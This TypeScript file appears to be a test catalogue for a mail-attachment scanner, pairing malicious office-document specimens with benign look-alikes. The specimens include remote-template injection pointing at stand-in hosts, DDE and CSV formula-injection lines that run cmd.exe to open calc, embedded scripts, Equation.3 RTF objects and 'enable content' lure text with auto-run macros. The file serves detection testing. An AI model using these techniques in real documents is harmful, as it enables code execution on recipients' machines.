import { exe, jpeg, pdf, png, rtf, script } from '../files/index.ts'
import { doc, docm, docx, xlsx } from '../office/index.ts'
import { built } from '../specimen-file.ts'
import { macros } from '../vba/index.ts'
import type { CatalogueEntry } from './entry.ts'
import { attached, behindPassword, latin1File } from './mails.ts'
import { ddeDocument, linked, packaged, quotedDde } from './office-parts.ts'
import { equation, richText, withObject } from './rich-text.ts'

export const documentEntries: readonly CatalogueEntry[] = [
  {
    id: 'A08',
    title: { ja: '外部のひな形・外部参照', en: 'Remote template or external relationship' },
    bad: [
      attached('template on the web', () => docx({ remoteTemplate: 'http://templates.example.net/inert.dotm' })),
      attached('template on a share', () => docx({ remoteTemplate: '\\\\192.0.2.5@80\\inert\\a.dotm' })),
      attached('object whose address ends in an exclamation mark', () =>
        linked('mhtml:http://203.0.113.9/inert.html!x-usc:http://203.0.113.9/inert.html', 'oleObject'),
      ),
      attached('frame', () => linked('https://frames.example.net/a.htm', 'frame')),
      attached('percent-encoded template', () => docx({ remoteTemplate: 'ht%74p://templates.example.net/in%65rt.dotm' })),
      attached('rich text with a template', () => richText('{\\*\\template http://templates.example.net/inert.dotm}')),
    ],
    lookAlike: [
      attached('template on a drive', () => docx({ remoteTemplate: 'file:///X:\\ひな形\\通知.dotx' })),
      attached('ordinary links', () => docx({ links: ['https://www.example.org/', 'mailto:info@partner.example.com'] })),
      attached('picture from elsewhere in the house', () => linked('file:///S:\\logo.png', 'image')),
    ],
  },
  {
    id: 'A09',
    title: { ja: 'DDE', en: 'DDE' },
    bad: [
      attached('field split over runs', () =>
        ddeDocument(['DD', 'EAU', 'TO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"']),
      ),
      attached('field hidden in QUOTE', () =>
        quotedDde([68, 68, 69, 65, 85, 84, 79, 32, 99, 109, 100, 46, 101, 120, 101, 32, 34, 99, 34]),
      ),
      attached('table that starts a program', () => latin1File('一覧.csv', "a,b\r\n=cmd|' /C calc'!A0,2\r\n", 'text/csv')),
      attached('rich text', () =>
        richText('{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"}{\\fldrslt x}}'),
      ),
    ],
    lookAlike: [
      attached('table with leading minus', () =>
        latin1File('検査値.csv', 'item,value\r\ntemp,-0.5\r\n-,@home\r\n+81-3,=1+1\r\n', 'text/csv'),
      ),
      attached('page number field', () => ddeDocument(['PAGE \\* MERGEFORMAT'])),
    ],
  },
  {
    id: 'A10',
    title: { ja: '埋め込みオブジェクト', en: 'Embedded objects and packages' },
    bad: [
      attached('script in a package', () => packaged(script('vbs', '請求書.vbs'))),
      attached('shortcut in a package', () => packaged(latin1File('a.js', built(script('js')).bytes.toString()))),
      attached('program under word/embeddings', () => docx({ embedded: [exe('a.bin')] })),
      attached('document with macros in a document', () => docx({ embedded: [docm()] })),
    ],
    lookAlike: [
      attached('table in a document', () => docx({ embedded: [xlsx({ name: 'Book1.xlsx' })] })),
      attached('PDF in a package', () => packaged(pdf({ name: 'annex.pdf' }))),
    ],
  },
  {
    id: 'A11',
    title: { ja: '悪用された RTF', en: 'Rich text that attacks' },
    bad: [
      attached('equation object', () => withObject('Equation.3', equation(), {})),
      attached('called .doc, hex broken up', () => withObject('eQuATion.3', equation(), { name: '申込書.doc', broken: true })),
      attached('package that updates itself', () =>
        withObject('Package', Buffer.from('inert'), { name: '案内.rtf', words: '\\objupdate' }),
      ),
      behindPassword('behind a password', () => withObject('Equation.3', equation(), { name: 'po.doc' })),
    ],
    lookAlike: [
      attached('plain rich text', () => rtf({ text: 'ご案内\n日時: 3月7日' })),
      attached('rich text with a picture', () => richText(`{\\pict\\jpegblip ${Buffer.from(jpeg().bytes).toString('hex')}}`)),
    ],
  },
  {
    id: 'A12',
    title: { ja: '「コンテンツの有効化」を求める絵と文', en: 'Pictures and words that ask to enable content' },
    bad: [
      attached('one picture and a macro', () =>
        doc({
          text: '',
          picture: jpeg({ bytes: 90_000 }).bytes,
          modules: [macros.asDocumentModule(macros.autoRunHarmless.replace('Workbook_Open', 'Document_Open'))],
        }),
      ),
      attached('Japanese words', () =>
        docm({
          text: 'このファイルは別の端末で作成されました。開くには「コンテンツの有効化」を押してください。',
          modules: [macros.asDocumentModule('Sub AutoOpen()\n    Application.Run "Module1.x"\nEnd Sub')],
        }),
      ),
      attached('English words', () =>
        doc({
          text: 'This document is protected. You have to press ENABLE EDITING and ENABLE CONTENT buttons to preview this document.',
          modules: [macros.asDocumentModule('Private Sub Document_Open()\n    x = 1\nEnd Sub')],
        }),
      ),
    ],
    lookAlike: [
      attached('manual that explains the setting', () =>
        docx({
          text: '電子カルテの設定手順\nマクロを有効にするには「コンテンツの有効化」を押します。',
          picture: png({ bytes: 900 }),
        }),
      ),
      attached('picture and few words', () => doc({ text: '地図', picture: jpeg({ bytes: 90_000 }).bytes })),
    ],
  },
]
